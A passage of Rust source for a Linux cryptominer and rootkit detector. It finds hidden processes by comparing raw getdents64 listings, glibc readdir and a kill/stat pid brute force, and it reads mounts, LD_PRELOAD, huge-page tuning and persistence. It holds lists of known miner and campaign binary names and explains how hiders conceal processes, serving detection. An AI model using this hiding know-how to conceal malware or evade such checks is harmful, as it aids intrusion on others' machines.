//! Host-wide facts that outlive or hide a miner (SIGNALS §5 and §7): hidden
//! processes, bind mounts over `/proc/PID`, `hidepid=`, LD_PRELOAD hiders,
//! leftover tuning (huge pages, msr `allow_writes`, `nmi_watchdog`, sysctl
//! files) and persistence (cron, systemd, rc.local) that launches a miner.
//!
//! # Reading a hostile host
//!
//! minerwatch runs as root on machines an intruder controls, so every read
//! here is defensive:
//! - paths below `root` / `proc_root` are walked one component at a time with
//!   `openat(O_NOFOLLOW | O_DIRECTORY)`: a symlink anywhere below the root is
//!   never followed (it is reported as a coverage gap, or silently skipped
//!   when it points into a tree we read anyway, like Debian's
//!   `/etc/sysctl.d/99-sysctl.conf -> ../sysctl.conf`, systemd's `*.wants/`
//!   links, and the merged-/usr `/lib -> usr/lib`);
//! - files are checked with `fstatat(AT_SYMLINK_NOFOLLOW)` before opening
//!   (FIFOs, sockets and devices are never opened), opened with
//!   `O_NOFOLLOW | O_NONBLOCK | O_CLOEXEC | O_NOCTTY`, checked again with
//!   `fstat` (`S_ISREG`), and read up to a cap (1 MiB per config file,
//!   64 KiB per procfs/sysfs value, 4 MiB for `/proc/self/{maps,mountinfo}`);
//! - directories are listed with the raw `getdents64` syscall, so an
//!   LD_PRELOAD hider that hooks glibc `readdir` cannot hide files or pids
//!   from us (the one exception is [`list_pids_readdir`], which exists to
//!   show what a hooked tool sees);
//! - nothing is ever written.
//!
//! The one symlink we do follow is the kernel's own `/proc/self`, and only
//! after `fstatfs` says `/proc` is a real procfs.

use std::collections::BTreeSet;
use std::ffi::CString;
use std::io::{self, Read};
use std::mem::MaybeUninit;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};
use std::sync::LazyLock;

use libc::c_int;
use regex::Regex;

pub use crate::snapshot::{
    HiddenPid, HostFacts, HugePages, PersistenceEntry, PidSweep, PreloadFile, SysctlSetting,
};

// ---------------------------------------------------------------------------
// Public data
// ---------------------------------------------------------------------------

/// Which pids the brute force asks about.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub enum Sweep {
    /// All of 1..=pid_max (a scan).
    #[default]
    Full,
    /// The agent, every few minutes: the pids allocated since `last_pid`
    /// (the namespace's last allocated pid, from `/proc/loadavg`, at the
    /// previous sweep; when `None`, every pid up to the current last one),
    /// one of `slices` slices of 1..=pid_max starting at `cursor` (so the
    /// whole range is covered every `slices` sweeps), and `also` (pids found
    /// hidden before). A process hidden after the agent started got its pid
    /// from the allocator since the previous sweep: the first part finds it
    /// at once; the slices are the backstop.
    Rolling {
        last_pid: Option<i32>,
        cursor: i32,
        slices: u32,
        also: Vec<i32>,
    },
}

/// The ranges a sweep probes and where the next slice starts. Pure.
fn plan_sweep(sweep: &Sweep, pid_max: i32, now_last: Option<i32>) -> (Vec<(i32, i32)>, i32) {
    let pid_max = pid_max.max(1);
    let Sweep::Rolling {
        last_pid,
        cursor,
        slices,
        ..
    } = sweep
    else {
        return (vec![(1, pid_max)], 1);
    };
    let Some(now) = now_last.map(|n| n.clamp(1, pid_max)) else {
        // Without the allocator's position only the whole range is sure.
        return (vec![(1, pid_max)], 1);
    };
    let mut ranges = Vec::new();
    match last_pid.map(|p| p.clamp(0, pid_max)) {
        None => ranges.push((1, now)),
        Some(prev) if prev <= now => ranges.push((prev + 1, now)),
        // The allocator wrapped around pid_max since.
        Some(prev) => {
            ranges.push((prev + 1, pid_max));
            ranges.push((1, now));
        }
    }
    let len = (i64::from(pid_max) + i64::from((*slices).max(1)) - 1) / i64::from((*slices).max(1));
    let start = if (1..=pid_max).contains(cursor) {
        *cursor
    } else {
        1
    };
    let end =
        i32::try_from((i64::from(start) + len - 1).min(i64::from(pid_max))).unwrap_or(pid_max);
    ranges.push((start, end));
    let next = if end >= pid_max { 1 } else { end + 1 };
    // Sorted, without empty or overlapping ranges.
    ranges.retain(|(a, b)| a <= b);
    ranges.sort_unstable();
    let mut merged: Vec<(i32, i32)> = Vec::new();
    for (a, b) in ranges {
        match merged.last_mut() {
            Some(last) if a <= last.1.saturating_add(1) => last.1 = last.1.max(b),
            _ => merged.push((a, b)),
        }
    }
    (merged, next)
}

/// The last pid the kernel allocated in our pid namespace: the fifth field
/// of `/proc/loadavg` ("0.07 0.15 1.08 1/88 29261").
fn last_allocated_pid(proc_fd: Option<&OwnedFd>) -> Option<i32> {
    let text = read_value_at(proc_fd?, "loadavg")?;
    text.split_whitespace().nth(4)?.parse().ok()
}

// ---------------------------------------------------------------------------
// Limits and constants
// ---------------------------------------------------------------------------

const CONFIG_CAP: usize = 1 << 20;
const VALUE_CAP: usize = 64 << 10;
const SELF_CAP: usize = 4 << 20;
const TEXT_CAP: usize = 300;
/// Directory levels below a scanned persistence directory.
const MAX_DEPTH: usize = 6;
/// Files read from one scanned tree.
const MAX_TREE_FILES: usize = 20_000;
/// Entries taken from one directory listing.
const MAX_DIR_ENTRIES: usize = 200_000;
/// The kernel's PID_MAX_LIMIT on 64-bit: used when pid_max cannot be read.
const PID_MAX_LIMIT: i32 = 4_194_304;
/// Brute-force worker threads at most.
const MAX_BRUTE_THREADS: usize = 8;
const FS_IMMUTABLE_FL: libc::c_long = 0x10;

const FILE_FLAGS: c_int =
    libc::O_RDONLY | libc::O_NOFOLLOW | libc::O_NONBLOCK | libc::O_CLOEXEC | libc::O_NOCTTY;
const DIR_FLAGS: c_int = libc::O_RDONLY
    | libc::O_DIRECTORY
    | libc::O_NOFOLLOW
    | libc::O_NONBLOCK
    | libc::O_CLOEXEC
    | libc::O_NOCTTY;

const GETDENTS: &str = "getdents64";
const READDIR: &str = "readdir";
const BRUTE: &str = "kill(0)/stat";

/// Known miners and campaign binaries (SIGNALS §5), matched as a word of a
/// command or file name ("xmrig-6.21" counts, "systemd-sysupdate" does not).
const MINERS: &[&str] = &["xmrig", "xmr-stak", "minerd", "cpuminer"];
const CAMPAIGN_NAMES: &[&str] = &[
    "kdevtmpfsi",
    "kinsing",
    "kworkerds",
    "sysupdate",
    "tcrond",
    "kthreaddk",
    "ksoftriqd",
    "kdevchecker",
    "cpuhelp",
    "solrd",
    "linuxsys",
];
/// Kernel thread names: no cron line or unit ever launches a real one.
static KTHREAD_NAME: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"^(?:kworker.*|kswapd\d*|ksoftirqd.*|kthreadd|kblockd|khugepaged|kauditd|kcompactd\d*|ksmd|kdevtmpfs|migration/\d+|rcu_[a-z]+)$",
    )
    .expect("static regex")
});
const SYSCTL_KEYS: &[&str] = &[
    "vm.nr_hugepages",
    "kernel.nmi_watchdog",
    "vm.nr_overcommit_hugepages",
];

// ---------------------------------------------------------------------------
// Public functions
// ---------------------------------------------------------------------------

/// Raw pid listing of `proc_root` with the getdents64 syscall (not glibc
/// readdir, which an LD_PRELOAD rootkit hooks). Sorted.
pub fn list_pids_raw(proc_root: &Path) -> io::Result<Vec<i32>> {
    let dir = open_dir_path(proc_root)?;
    // no cap: /proc holds at most pid_max (<= 4194304) pid entries
    let (entries, _) = getdents(&dir, usize::MAX)?;
    let mut pids: Vec<i32> = entries.iter().filter_map(|e| parse_pid(&e.name)).collect();
    pids.sort_unstable();
    pids.dedup();
    Ok(pids)
}

/// The same listing through glibc readdir (`std::fs::read_dir`): what a
/// hooked tool sees. Sorted.
pub fn list_pids_readdir(proc_root: &Path) -> io::Result<Vec<i32>> {
    let mut pids = Vec::new();
    for entry in std::fs::read_dir(proc_root)? {
        let entry = entry?;
        if let Some(pid) = parse_pid(entry.file_name().as_bytes()) {
            pids.push(pid);
        }
    }
    pids.sort_unstable();
    pids.dedup();
    Ok(pids)
}

/// Pids 1..=pid_max that exist, keeping only thread-group leaders (`Tgid` ==
/// pid in status; kept when status cannot be read, e.g. under a bind mount).
/// pid_max comes from `<proc_root>/sys/kernel/pid_max` (4194304 when
/// unreadable). Runs on up to 8 threads. Sorted.
///
/// When `proc_root` is the procfs of our own pid namespace (its `self` names
/// our pid), a pid exists when `kill(pid, 0)` answers (EPERM counts) or,
/// failing that, `getpgid(pid)` does: two raw syscalls (not the glibc
/// wrappers a preload hider could hook) at about 0.1 µs each. A
/// `stat(<proc_root>/pid)` for every pid costs about 0.9 µs more (a procfs
/// path lookup): 3.8–4.6 s for pid_max 4194304 on a 2-core machine, too much
/// for a 5 s window, so it is left to [`brute_force_pids_with`]. For any other
/// `proc_root` (another namespace's /proc, a fixture) only `stat` can answer
/// and is used alone.
pub fn brute_force_pids(proc_root: &Path) -> Vec<i32> {
    brute_force_pids_with(proc_root, false)
}

/// [`brute_force_pids`], with `stat_sweep` also asking `stat(<proc_root>/pid)`
/// for every pid the syscalls deny (catches a rootkit that hooks kill and
/// getpgid in the kernel; ~4 s for pid_max 4194304 on 2 cores).
pub fn brute_force_pids_with(proc_root: &Path, stat_sweep: bool) -> Vec<i32> {
    brute_force_sweep(proc_root, stat_sweep, &Sweep::Full).0
}

/// The brute force over what `sweep` names: the pids found (thread-group
/// leaders) and what was probed.
pub fn brute_force_sweep(
    proc_root: &Path,
    stat_sweep: bool,
    sweep: &Sweep,
) -> (Vec<i32>, PidSweep) {
    let proc_fd = open_dir_path(proc_root).ok();
    let pid_max = proc_fd
        .as_ref()
        .and_then(|fd| read_value_at(fd, "sys/kernel/pid_max"))
        .and_then(|v| v.trim().parse::<i32>().ok())
        .map_or(PID_MAX_LIMIT, |v| v.clamp(1, PID_MAX_LIMIT));
    let probe = Probe::for_proc(proc_fd.as_ref(), stat_sweep);
    // /proc/loadavg tells the allocator of *our* namespace: of no use for a
    // procfs of another one.
    let last_pid = if probe == Probe::Stat {
        None
    } else {
        last_allocated_pid(proc_fd.as_ref())
    };
    let (ranges, next_slice) = plan_sweep(sweep, pid_max, last_pid);
    let mut swept = PidSweep {
        ranges,
        pids: Vec::new(),
        pid_max,
        last_pid,
        next_slice,
    };
    let mut found = Vec::new();
    for &(a, b) in &swept.ranges {
        found.extend(scan_pid_range(proc_fd.as_ref(), probe, a, b));
    }
    if let Sweep::Rolling { also, .. } = sweep {
        for &pid in also {
            if !swept.probed(pid) {
                swept.pids.push(pid);
                if pid_exists(proc_fd.as_ref(), probe, pid) {
                    found.push(pid);
                }
            }
        }
    }
    found.sort_unstable();
    found.dedup();
    let found = found
        .into_iter()
        .filter(|&pid| {
            proc_fd
                .as_ref()
                .and_then(|fd| thread_group_leader(fd, pid))
                .unwrap_or(true)
        })
        .collect();
    (found, swept)
}

/// Compares the three listings: every pid missing from at least one of them.
/// Pure; [`observe_host`] re-checks the candidates before reporting.
pub fn hidden_pids(raw: &[i32], readdir: &[i32], brute: &[i32]) -> Vec<HiddenPid> {
    let lists: [(&str, BTreeSet<i32>); 3] = [
        (GETDENTS, raw.iter().copied().collect()),
        (READDIR, readdir.iter().copied().collect()),
        (BRUTE, brute.iter().copied().collect()),
    ];
    let all: BTreeSet<i32> = lists.iter().flat_map(|(_, s)| s.iter().copied()).collect();
    let mut out = Vec::new();
    for pid in all {
        let (seen, missing): (Vec<_>, Vec<_>) = lists.iter().partition(|(_, s)| s.contains(&pid));
        if !missing.is_empty() {
            out.push(HiddenPid {
                pid,
                seen_by: seen.iter().map(|(n, _)| (*n).to_string()).collect(),
                missing_from: missing.iter().map(|(n, _)| (*n).to_string()).collect(),
            });
        }
    }
    out
}

/// Everything above. `root` is the filesystem root to read /etc etc. from
/// ("/" normally, a fixture dir in tests); `proc_root` is /proc; sysfs is read
/// from `root`/sys. `/proc/self/{maps,mountinfo,exe}` always come from the real
/// `/proc` (they describe minerwatch itself). Returns the facts and the
/// coverage gaps as (what, error).
pub fn observe_host(root: &Path, proc_root: &Path) -> (HostFacts, Vec<(String, String)>) {
    observe_host_with(root, proc_root, &Sweep::Full)
}

/// [`observe_host`] with the brute force limited to what `sweep` names.
pub fn observe_host_with(
    root: &Path,
    proc_root: &Path,
    sweep: &Sweep,
) -> (HostFacts, Vec<(String, String)>) {
    let mut gaps = Gaps::default();
    let mut facts = HostFacts::default();
    let root_tree = Tree::open(root, &mut gaps);
    let proc_tree = Tree::open(proc_root, &mut gaps);

    std::thread::scope(|scope| {
        let brute = scope.spawn(|| brute_force_sweep(proc_root, false, sweep));

        facts.ld_so_preload = read_ld_so_preload(&root_tree, &mut gaps);
        facts.hugepages = read_hugepages(&proc_tree, &mut gaps);
        let gig = |name: &str, gaps: &mut Gaps| {
            read_trimmed(
                &root_tree,
                &format!("sys/kernel/mm/hugepages/hugepages-1048576kB/{name}"),
                gaps,
            )
            .and_then(|v| v.parse::<u64>().ok())
            .unwrap_or(0)
        };
        facts.hugepages.nr_1g = gig("nr_hugepages", &mut gaps);
        facts.hugepages.free_1g = gig("free_hugepages", &mut gaps);
        facts.nmi_watchdog = read_trimmed(&proc_tree, "sys/kernel/nmi_watchdog", &mut gaps);
        facts.msr_allow_writes = read_trimmed(
            &root_tree,
            "sys/module/msr/parameters/allow_writes",
            &mut gaps,
        );
        facts.sysctl = scan_sysctl(&root_tree, &mut gaps);
        facts.persistence = scan_persistence(&root_tree, &mut gaps);
        read_self(&mut facts, proc_root, &mut gaps);

        let raw = list_pids_raw(proc_root).map_err(|e| {
            gaps.add(
                format!("{} (getdents64)", proc_root.display()),
                e.to_string(),
            );
        });
        let readdir = list_pids_readdir(proc_root).map_err(|e| {
            gaps.add(format!("{} (readdir)", proc_root.display()), e.to_string());
        });
        let brute = match brute.join() {
            Ok((found, swept)) => {
                // Outside what was probed the brute force has no say: count
                // the listings' pids as seen by it, so that only a listing
                // that misses a pid can make it a candidate there.
                let mut found = found;
                if swept.count() < u64::try_from(swept.pid_max).unwrap_or(0) {
                    for list in [raw.as_ref(), readdir.as_ref()].into_iter().flatten() {
                        found.extend(list.iter().copied().filter(|&p| !swept.probed(p)));
                    }
                    found.sort_unstable();
                    found.dedup();
                }
                facts.pid_sweep = swept;
                Ok(found)
            }
            Err(_) => {
                gaps.add("pid brute force", "worker thread panicked");
                Err(())
            }
        };
        // SAFETY: geteuid cannot fail.
        let root_user = unsafe { libc::geteuid() } == 0;
        match (raw, readdir, brute) {
            (_, _, _) if facts.hidepid.is_some() && !root_user => gaps.add(
                "hidden processes",
                "/proc has hidepid= and we are not root: other users' processes are \
                 invisible to us by design; check skipped",
            ),
            (Ok(raw), Ok(readdir), Ok(brute)) => {
                let candidates = hidden_pids(&raw, &readdir, &brute);
                facts.hidden_pids = confirm_hidden(proc_root, &proc_tree, candidates);
            }
            // A failed listing is left out of the comparison (it is a gap).
            (Ok(one), Err(()), Ok(brute)) | (Err(()), Ok(one), Ok(brute)) => {
                let candidates = hidden_pids(&one, &one, &brute);
                facts.hidden_pids = confirm_hidden(proc_root, &proc_tree, candidates);
            }
            _ => {}
        }
    });
    if proc_tree
        .fd
        .as_ref()
        .is_some_and(|fd| read_value_at(fd, "sys/kernel/pid_max").is_none())
    {
        gaps.add(
            proc_tree.display("sys/kernel/pid_max"),
            format!("unreadable; brute force assumed pid_max {PID_MAX_LIMIT}"),
        );
    }
    (facts, gaps.0)
}

// ---------------------------------------------------------------------------
// Hidden processes
// ---------------------------------------------------------------------------

/// Re-checks candidates: a pid is reported only if it is still alive, still a
/// thread-group leader, and still missing from a fresh listing.
fn confirm_hidden(
    proc_root: &Path,
    proc_tree: &Tree,
    candidates: Vec<HiddenPid>,
) -> Vec<HiddenPid> {
    if candidates.is_empty() {
        return candidates;
    }
    let Some(proc_fd) = proc_tree.fd.as_ref() else {
        return Vec::new();
    };
    let probe = Probe::for_proc(Some(proc_fd), true);
    // A listing that fails now counts as showing the pid (it is a gap already).
    let raw = list_pids_raw(proc_root).ok();
    let readdir = list_pids_readdir(proc_root).ok();
    let mut out = Vec::new();
    for candidate in candidates {
        let pid = candidate.pid;
        if !pid_exists(Some(proc_fd), probe, pid) {
            continue; // exited: a race
        }
        if thread_group_leader(proc_fd, pid) == Some(false) {
            continue; // a thread
        }
        let raw_has = raw.as_ref().is_none_or(|l| l.binary_search(&pid).is_ok());
        let readdir_has = readdir
            .as_ref()
            .is_none_or(|l| l.binary_search(&pid).is_ok());
        let one = [pid];
        let again = hidden_pids(
            if raw_has { &one[..] } else { &[] },
            if readdir_has { &one[..] } else { &[] },
            &one,
        );
        out.extend(again);
    }
    out
}

/// How the brute force asks whether a pid exists.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Probe {
    /// kill(0), then getpgid: our own pid namespace.
    Syscalls,
    /// The syscalls, then stat(<proc>/pid).
    SyscallsThenStat,
    /// stat(<proc>/pid) only: a procfs of another namespace, or a fixture.
    Stat,
}

impl Probe {
    fn for_proc(proc_fd: Option<&OwnedFd>, stat_sweep: bool) -> Probe {
        match proc_fd {
            None => Probe::Syscalls,
            Some(fd) if !proc_is_ours(fd) => Probe::Stat,
            Some(_) if stat_sweep => Probe::SyscallsThenStat,
            Some(_) => Probe::Syscalls,
        }
    }
}

/// Existing ids in `first..=last` (threads included).
fn scan_pid_range(proc_fd: Option<&OwnedFd>, probe: Probe, first: i32, last: i32) -> Vec<i32> {
    if last < first {
        return Vec::new();
    }
    let threads = std::thread::available_parallelism()
        .map_or(1, |n| n.get())
        .clamp(1, MAX_BRUTE_THREADS);
    let span = i64::from(last) - i64::from(first) + 1;
    let chunk = (span / threads as i64 + 1).max(1);
    let mut found = Vec::new();
    std::thread::scope(|scope| {
        let mut workers = Vec::new();
        let mut start = i64::from(first);
        while start <= i64::from(last) {
            let end = (start + chunk - 1).min(i64::from(last));
            let (lo, hi) = (start as i32, end as i32);
            workers.push(scope.spawn(move || {
                (lo..=hi)
                    .filter(|&pid| pid_exists(proc_fd, probe, pid))
                    .collect::<Vec<i32>>()
            }));
            start = end + 1;
        }
        for worker in workers {
            if let Ok(part) = worker.join() {
                found.extend(part);
            }
        }
    });
    found.sort_unstable();
    found
}

/// Does `pid` exist, by `probe`?
fn pid_exists(proc_fd: Option<&OwnedFd>, probe: Probe, pid: i32) -> bool {
    if pid <= 0 {
        return false;
    }
    if probe != Probe::Stat {
        let answered = |r: libc::c_long| {
            r >= 0 || io::Error::last_os_error().raw_os_error() == Some(libc::EPERM)
        };
        // SAFETY: signal 0 only checks existence and permission; getpgid only reads.
        if answered(unsafe {
            libc::syscall(libc::SYS_kill, libc::c_long::from(pid), 0 as libc::c_long)
        }) || answered(unsafe { libc::syscall(libc::SYS_getpgid, libc::c_long::from(pid)) })
        {
            return true;
        }
        if probe == Probe::Syscalls {
            return false;
        }
    }
    let Some(fd) = proc_fd else {
        return false;
    };
    let mut name = [0u8; 16];
    let len = format_pid(pid, &mut name);
    let mut st = MaybeUninit::<libc::stat>::uninit();
    // SAFETY: `name` is NUL-terminated at `len`; `st` is writable.
    let r = unsafe {
        libc::fstatat(
            fd.as_raw_fd(),
            name[..=len].as_ptr().cast(),
            st.as_mut_ptr(),
            libc::AT_SYMLINK_NOFOLLOW,
        )
    };
    r == 0
}

/// Writes `pid` in decimal followed by NUL; returns the digit count.
fn format_pid(pid: i32, buf: &mut [u8; 16]) -> usize {
    let mut digits = [0u8; 12];
    let mut n = pid.unsigned_abs();
    let mut i = 0;
    loop {
        digits[i] = b'0' + (n % 10) as u8;
        n /= 10;
        i += 1;
        if n == 0 || i == digits.len() {
            break;
        }
    }
    for j in 0..i {
        buf[j] = digits[i - 1 - j];
    }
    buf[i] = 0;
    i
}

/// Is `proc_fd` the procfs of our own pid namespace (its `self` is our pid)?
fn proc_is_ours(proc_fd: &OwnedFd) -> bool {
    read_link_at(proc_fd, b"self").is_ok_and(|t| t.trim() == std::process::id().to_string())
}

/// `Tgid == pid` from `<proc>/<pid>/status`; None when unreadable.
fn thread_group_leader(proc_fd: &OwnedFd, pid: i32) -> Option<bool> {
    let status = read_value_at(proc_fd, &format!("{pid}/status"))?;
    let tgid = status
        .lines()
        .find_map(|l| l.strip_prefix("Tgid:"))?
        .trim()
        .parse::<i32>()
        .ok()?;
    Some(tgid == pid)
}

fn parse_pid(name: &[u8]) -> Option<i32> {
    if name.is_empty() || name.len() > 10 || !name.iter().all(u8::is_ascii_digit) {
        return None;
    }
    std::str::from_utf8(name)
        .ok()?
        .parse::<i32>()
        .ok()
        .filter(|&p| p > 0)
}

// ---------------------------------------------------------------------------
// /proc/self: mounts, hidepid, our own mapped libraries
// ---------------------------------------------------------------------------

fn read_self(facts: &mut HostFacts, proc_root: &Path, gaps: &mut Gaps) {
    let self_fd = match open_proc_self() {
        Ok(fd) => fd,
        Err(e) => {
            gaps.add("/proc/self", e.to_string());
            return;
        }
    };
    match read_at(&self_fd, b"mountinfo", SELF_CAP, false) {
        Ok(f) => {
            if f.truncated {
                gaps.add(
                    "/proc/self/mountinfo",
                    format!("truncated at {SELF_CAP} bytes"),
                );
            }
            let text = String::from_utf8_lossy(&f.data);
            let (mounts, hidepid, covered_by) =
                parse_mountinfo(&text, &proc_root.to_string_lossy());
            facts.proc_pid_mounts = mounts;
            facts.hidepid = hidepid;
            if let Some(fstype) = covered_by {
                gaps.add(
                    proc_root.display().to_string(),
                    format!("the topmost mount there is {fstype}, not procfs"),
                );
            }
        }
        Err(e) => gaps.add("/proc/self/mountinfo", e.to_string()),
    }
    // The host's mounts, as its init sees them. Ours may differ: a service
    // with its own mount namespace and a fresh /proc (systemd's
    // ProtectKernelTunables=) never sees a mount made over /proc/PID after
    // it started.
    let init_mountinfo = proc_root.join("1").join("mountinfo");
    match crate::observe::files::read_regular(&init_mountinfo, SELF_CAP as u64, true) {
        Ok((data, _)) => {
            let (mounts, _, _) = parse_mountinfo(
                &String::from_utf8_lossy(&data),
                &proc_root.to_string_lossy(),
            );
            for m in mounts {
                if !facts.proc_pid_mounts.contains(&m) {
                    facts.proc_pid_mounts.push(m);
                }
            }
        }
        // Not ours to read (no CAP_SYS_PTRACE): our own view has to do.
        Err(e) if e.kind() == io::ErrorKind::PermissionDenied => {}
        Err(e) => gaps.add(init_mountinfo.display().to_string(), e.to_string()),
    }
    match read_at(&self_fd, b"maps", SELF_CAP, false) {
        Ok(f) => {
            if f.truncated {
                gaps.add("/proc/self/maps", format!("truncated at {SELF_CAP} bytes"));
            }
            let exe = read_link_at(&self_fd, b"exe").ok();
            let env_preload: Vec<String> = std::env::var_os("LD_PRELOAD")
                .map(|v| split_preload(&v.to_string_lossy()))
                .unwrap_or_default();
            let file_preload = facts
                .ld_so_preload
                .as_ref()
                .map(|p| p.entries.clone())
                .unwrap_or_default();
            facts.self_preloaded = preloaded_from_maps(
                &String::from_utf8_lossy(&f.data),
                exe.as_deref(),
                &env_preload,
                &file_preload,
            );
        }
        Err(e) => gaps.add("/proc/self/maps", e.to_string()),
    }
}

/// `/proc/self`, following the `self` magic link only on a real procfs.
fn open_proc_self() -> io::Result<OwnedFd> {
    let proc_fd = open_dir_path(Path::new("/proc"))?;
    let mut sfs = MaybeUninit::<libc::statfs>::uninit();
    // SAFETY: `sfs` is writable; the fd is valid.
    if unsafe { libc::fstatfs(proc_fd.as_raw_fd(), sfs.as_mut_ptr()) } != 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: fstatfs succeeded and filled it.
    let sfs = unsafe { sfs.assume_init() };
    // (f_type's width differs between targets)
    if sfs.f_type as u64 != libc::PROC_SUPER_MAGIC as u64 {
        return Err(io::Error::other("/proc is not a procfs mount"));
    }
    open_at(&proc_fd, b"self", DIR_FLAGS & !libc::O_NOFOLLOW)
}

/// Mount points over `<proc mount>/<digits>[/...]`, the /proc mount's
/// hidepid=, and the file system type of the topmost mount on `proc_root`
/// (or /proc) when that is not procfs (something mounted over /proc).
fn parse_mountinfo(text: &str, proc_root: &str) -> (Vec<String>, Option<String>, Option<String>) {
    struct Mount {
        point: String,
        fstype: String,
        opts: String,
    }
    let mounts: Vec<Mount> = text
        .lines()
        .filter_map(|line| {
            let fields: Vec<&str> = line.split(' ').collect();
            let sep = 6 + fields.iter().skip(6).position(|f| *f == "-")?;
            Some(Mount {
                point: unescape_mount(fields.get(4)?),
                fstype: (*fields.get(sep + 1)?).to_string(),
                opts: format!("{},{}", fields.get(5)?, fields.get(sep + 3).unwrap_or(&"")),
            })
        })
        .collect();
    let mut proc_points: BTreeSet<String> = mounts
        .iter()
        .filter(|m| m.fstype == "proc")
        .map(|m| m.point.clone())
        .collect();
    proc_points.insert("/proc".to_string());
    let proc_root = proc_root.trim_end_matches('/');
    if !proc_root.is_empty() {
        proc_points.insert(proc_root.to_string());
    }
    let mut pid_mounts = Vec::new();
    for m in &mounts {
        for p in &proc_points {
            let Some(rest) = m
                .point
                .strip_prefix(p.as_str())
                .and_then(|r| r.strip_prefix('/'))
            else {
                continue;
            };
            let first = rest.split('/').next().unwrap_or("");
            if parse_pid(first.as_bytes()).is_some() && !pid_mounts.contains(&m.point) {
                pid_mounts.push(m.point.clone());
            }
        }
    }
    let top = |point: &str| mounts.iter().rev().find(|m| m.point == point);
    let proc_mount = top(proc_root).or_else(|| top("/proc"));
    let covered_by = proc_mount
        .filter(|m| m.fstype != "proc")
        .map(|m| m.fstype.clone());
    let hidepid = proc_mount.filter(|m| m.fstype == "proc").and_then(|m| {
        m.opts
            .split(',')
            .find_map(|o| o.strip_prefix("hidepid="))
            .map(str::to_string)
    });
    (pid_mounts, hidepid, covered_by)
}

/// Undoes mountinfo's octal escapes (`\040` for a space…).
fn unescape_mount(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'\\'
            && i + 3 < b.len()
            && b[i + 1..=i + 3].iter().all(|c| (b'0'..=b'7').contains(c))
        {
            let v = u32::from(b[i + 1] - b'0') * 64
                + u32::from(b[i + 2] - b'0') * 8
                + u32::from(b[i + 3] - b'0');
            out.push(u8::try_from(v).unwrap_or(b'?'));
            i += 4;
        } else {
            out.push(b[i]);
            i += 1;
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn split_preload(s: &str) -> Vec<String> {
    s.split(|c: char| c.is_whitespace() || c == ':')
        .filter(|e| !e.is_empty())
        .map(str::to_string)
        .collect()
}

/// Executable file mappings of our own process that were preloaded or are
/// not expected (see [`HostFacts::self_preloaded`]).
fn preloaded_from_maps(
    maps: &str,
    exe: Option<&str>,
    env_preload: &[String],
    file_preload: &[String],
) -> Vec<String> {
    let exe = exe.map(|e| e.strip_suffix(" (deleted)").unwrap_or(e));
    let mut out: Vec<String> = Vec::new();
    for line in maps.lines() {
        let mut rest = line;
        let mut fields = Vec::new();
        for _ in 0..5 {
            rest = rest.trim_start();
            let end = rest.find(' ').unwrap_or(rest.len());
            fields.push(&rest[..end]);
            rest = &rest[end..];
        }
        let path = rest.trim();
        let Some(perms) = fields.get(1) else { continue };
        if !perms.contains('x') || path.is_empty() || path.starts_with('[') {
            continue;
        }
        let clean = path.strip_suffix(" (deleted)").unwrap_or(path);
        if Some(clean) == exe {
            continue;
        }
        let listed = env_preload
            .iter()
            .chain(file_preload)
            .any(|e| e == clean || basename(e) == basename(clean));
        if (listed || !expected_library(clean)) && !out.iter().any(|o| o == path) {
            out.push(path.to_string());
        }
    }
    out
}

static TRUSTED_LIB_DIR: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^/(?:usr/)?lib(?:32|64|x32)?(?:/[a-z0-9_]+-linux-gnu[a-z0-9_]*)?(?:/gconv)?$")
        .expect("static regex")
});
static EXPECTED_LIB: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"^(?:ld-linux[a-z0-9_.-]*\.so\.\d+|ld64\.so\.\d+|lib(?:c|m|mvec|pthread|dl|rt|util|",
        r"resolv|anl|nsl|BrokenLocale|thread_db|crypt|gcc_s|z|cap|systemd|lzma|zstd|lz4|gcrypt|",
        r"gpg-error|selinux|pcre2-8|idn2|unistring|nss_[a-z0-9_]+)\.so(?:\.\d+)*)$"
    ))
    .expect("static regex")
});

fn expected_library(path: &str) -> bool {
    let Some((dir, name)) = path.rsplit_once('/') else {
        return false;
    };
    TRUSTED_LIB_DIR.is_match(dir) && (dir.ends_with("/gconv") || EXPECTED_LIB.is_match(name))
}

// ---------------------------------------------------------------------------
// Tuning leftovers
// ---------------------------------------------------------------------------

fn read_ld_so_preload(tree: &Tree, gaps: &mut Gaps) -> Option<PreloadFile> {
    let rel = "etc/ld.so.preload";
    let path = tree.display(rel);
    match tree.read(gaps, rel, CONFIG_CAP, true) {
        Got::File(f) => Some(PreloadFile {
            path,
            entries: split_preload(&String::from_utf8_lossy(&f.data)),
            immutable: f.immutable,
            symlink_target: None,
        }),
        Got::Symlink(target) => {
            gaps.add(path.clone(), format!("symlink to {target}: not followed"));
            Some(PreloadFile {
                path,
                symlink_target: Some(target),
                ..PreloadFile::default()
            })
        }
        Got::Skip => None,
    }
}

fn read_hugepages(tree: &Tree, gaps: &mut Gaps) -> HugePages {
    let mut hp = HugePages::default();
    let Got::File(f) = tree.read(gaps, "meminfo", VALUE_CAP, false) else {
        gaps.add(tree.display("meminfo"), "not readable; huge pages unknown");
        return hp;
    };
    for line in String::from_utf8_lossy(&f.data).lines() {
        let Some((key, value)) = line.split_once(':') else {
            continue;
        };
        let Some(n) = value
            .split_whitespace()
            .next()
            .and_then(|v| v.parse::<u64>().ok())
        else {
            continue;
        };
        match key.trim() {
            "HugePages_Total" => hp.nr_hugepages = n,
            "HugePages_Free" => hp.free = n,
            "HugePages_Rsvd" => hp.reserved = n,
            "HugePages_Surp" => hp.surplus = n,
            "Hugepagesize" => hp.size_kib = n,
            _ => {}
        }
    }
    hp
}

/// A small value file (procfs/sysfs), trimmed; None when absent.
fn read_trimmed(tree: &Tree, rel: &str, gaps: &mut Gaps) -> Option<String> {
    match tree.read(gaps, rel, VALUE_CAP, false) {
        Got::File(f) => Some(String::from_utf8_lossy(&f.data).trim().to_string()),
        Got::Symlink(target) => {
